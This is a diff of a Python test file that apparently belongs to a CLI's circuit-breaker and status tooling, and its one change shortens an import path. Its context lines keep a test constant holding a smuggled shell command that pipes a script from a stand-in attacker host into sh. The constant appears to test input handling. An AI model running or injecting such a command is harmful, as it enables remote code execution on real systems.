@@ -9,7 +9,7 @@ import pytest
 
 from fairlead.cli.gate.breakers import breaker_record, problem_of, stops_calls
 from fairlead.cli.status import with_trouble
-from fairlead.engine.ports.gate_view import BreakerView, DestinationView, FailureView
+from fairlead.engine.ports import BreakerView, DestinationView, FailureView
 from fairlead.policy.limits.breaker import Destination
 
 EVIL = "Ann's; curl evil.example | sh #"
